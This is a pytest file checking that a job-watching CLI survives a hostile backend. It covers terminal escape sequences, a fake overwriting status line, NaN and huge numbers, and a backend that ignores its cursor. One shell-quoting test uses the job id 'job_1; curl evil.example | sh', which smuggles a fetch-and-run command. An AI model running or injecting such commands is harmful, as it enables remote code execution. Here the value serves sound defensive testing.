"""Watching a job on a hostile backend: strings it sends cannot move the cursor or crash the write,
numbers it sends cannot crash the watch or make --json invalid, a backend that ignores `since_seq`
cannot make the watcher poll without pausing, and ids in printed commands are shell-quoted.
Real stub servers on 127.0.0.1."""

from __future__ import annotations

import io
import json
import shlex
import time

import pytest

from synthlaunch.api import SynthClient
from synthlaunch.console import Output
from synthlaunch.errors import PollTimeout
from synthlaunch.http import RetryPolicy
from synthlaunch.render import make_renderer
from synthlaunch.stream import reattach_commands, watch_job

from . import answers

KEY = "sk_stream_" + "b0a7" * 8
FAST = RetryPolicy(attempts=3, deadline=10, backoff_base=0.01, backoff_max=0.02, min_wait=0.01)
FAKE_LINE = "\x1b[2K\r[12:00:00] status=succeeded"


def _terminal() -> io.TextIOWrapper:
    """A stream that encodes like a UTF-8 terminal (a lone surrogate cannot be written to it raw)."""
    return io.TextIOWrapper(io.BytesIO(), encoding="utf-8", write_through=True)


def _text(stream: io.TextIOWrapper) -> str:
    return stream.buffer.getvalue().decode("utf-8")  # type: ignore[attr-defined]


def _hostile_backend(stubs, job_id: str, *, status: str = "running"):
    backend = stubs()
    base = f"/api/learning/jobs/{job_id}"
    backend.script(base, (0, answers.json_body({"id": job_id, "status": status, "job_type": "sft"})))
    events = ('{"events": ['
              '{"seq": 1, "type": "sft.progress\\u001b[31m", "message": "x\\ud800y", "level": "info"},'
              '{"seq": 2, "type": "sft.progress", "message": ' + json.dumps(FAKE_LINE) + '},'
              '{"seq": 1e400, "type": "huge", "message": "seq 1e400"},'
              '{"seq": 3, "type": "sft.note", "message": NaN}]}')
    backend.script(base + "/events", (0, answers.json_body(events)))
    points = ('{"points": [{"name": "train.loss", "value": NaN, "step": 1},'
              '{"name": "train.loss", "value": Infinity, "step": 1e400},'
              '{"name": "train.loss", "value": 0.5, "step": 2},'
              '{"name": "train.loss", "value": ' + "9" * 400 + ', "step": 3}]}')
    backend.script(base + "/metrics", (0, answers.json_body(points)))
    backend.script(base + "/timeline", (200, {"events": []}))
    return backend


@pytest.mark.parametrize("fmt", ["cli", "chart", "json"])
def test_hostile_strings_and_numbers_neither_crash_nor_reach_the_terminal_raw(stubs, fmt) -> None:
    job_id = "job_1"
    backend = _hostile_backend(stubs, job_id)
    stdout, stderr = _terminal(), _terminal()
    out = Output(json_mode=fmt == "json", stdout=stdout, stderr=stderr)
    client = SynthClient(backend.url + "/api", KEY, policy=FAST)
    with pytest.raises(PollTimeout):
        watch_job(client, job_id, kind="sft", renderer=make_renderer(fmt, out, job_id=job_id, kind="sft"),
                  poll_timeout=0.5, poll_interval=0.1)
    text = _text(stdout) + _text(stderr)
    assert "\x1b[" not in text.replace("\x1b[0m", "") or fmt == "chart"  # the chart frame draws ANSI itself
    assert "\r[12:00:00]" not in text and "\\x1b" in text or fmt in ("chart", "json")
    if fmt == "json":
        records = [json.loads(line, parse_constant=lambda name: pytest.fail(f"{name} in --json output"))
                   for line in _text(stdout).splitlines()]
        kinds = [r["record"] for r in records]
        assert kinds[-2:] == ["error", "summary"] and records[-1]["exit_code"] == 5
        metrics = [r for r in records if r["record"] == "metric"]
        # NaN and Infinity are null; a huge integer is valid JSON and passes through as it came
        assert {m["value"] for m in metrics} == {None, 0.5, int("9" * 400)}


def test_an_event_line_cannot_overwrite_the_line_before(stubs) -> None:
    backend = _hostile_backend(stubs, "job_2")
    stdout, stderr = _terminal(), _terminal()
    out = Output(stdout=stdout, stderr=stderr)
    with pytest.raises(PollTimeout):
        watch_job(SynthClient(backend.url + "/api", KEY, policy=FAST), "job_2", kind="sft",
                  renderer=make_renderer("cli", out, job_id="job_2", kind="sft"), poll_timeout=0.3,
                  poll_interval=0.1)
    lines = _text(stdout).splitlines()
    assert not any("\r" in line or "\x1b" in line for line in lines)
    assert any("\\x1b[2K\\r[12:00:00] status=succeeded" in line for line in lines)
    assert any("x\ufffdy" in line for line in lines)


def test_a_backend_that_ignores_since_seq_does_not_make_the_watcher_spin(stubs) -> None:
    backend = stubs()
    base = "/api/learning/jobs/job_3"
    backend.script(base, (200, {"id": "job_3", "status": "running"}))
    page = {"events": [{"seq": n, "type": "sft.progress", "message": f"{n}"} for n in range(1, 201)]}
    backend.script(base + "/events", (200, page))  # the same full page whatever since_seq says
    backend.script(base + "/metrics", (200, {"points": []}))
    backend.script(base + "/timeline", (200, {"events": []}))
    sleeps: list[float] = []

    def sleep(seconds: float) -> None:
        sleeps.append(seconds)
        time.sleep(seconds)

    out = Output(stdout=io.StringIO(), stderr=io.StringIO())
    with pytest.raises(PollTimeout):
        watch_job(SynthClient(backend.url + "/api", KEY, policy=FAST), "job_3", kind="sft",
                  renderer=make_renderer("cli", out, job_id="job_3", kind="sft"), poll_timeout=1.0,
                  poll_interval=0.2, sleep=sleep)
    rounds = len(backend.hits(base + "/events"))
    # the first round advanced the cursor and the last one met the timeout: every other round paused
    assert rounds >= 3 and len(sleeps) >= rounds - 2


def test_ids_in_printed_commands_are_shell_quoted() -> None:
    attach, cancel = reattach_commands("job_1; curl evil.example | sh", "http://127.0.0.1:8000/api")
    assert shlex.split(attach)[-3:] == ["job_1; curl evil.example | sh", "--backend", "http://127.0.0.1:8000"]
    assert shlex.split(cancel)[2] == "job_1; curl evil.example | sh"


def test_with_json_a_defect_still_ends_with_an_error_record_and_a_summary(stubs) -> None:
    from synthlaunch.render.jsonl import JsonRenderer

    class Broken(JsonRenderer):
        def event(self, event):  # a defect of the tool while drawing
            raise RuntimeError("drawing failed")

    backend = _hostile_backend(stubs, "job_4")
    stdout = io.StringIO()
    out = Output(json_mode=True, stdout=stdout, stderr=io.StringIO())
    with pytest.raises(RuntimeError):
        watch_job(SynthClient(backend.url + "/api", KEY, policy=FAST), "job_4", kind="sft",
                  renderer=Broken(out, job_id="job_4"), poll_timeout=5, poll_interval=0.1)
    records = [json.loads(line) for line in stdout.getvalue().splitlines()]
    assert [r["record"] for r in records[-2:]] == ["error", "summary"]
    assert records[-2]["exit_code"] == 70 and records[-1]["exit_code"] == 70
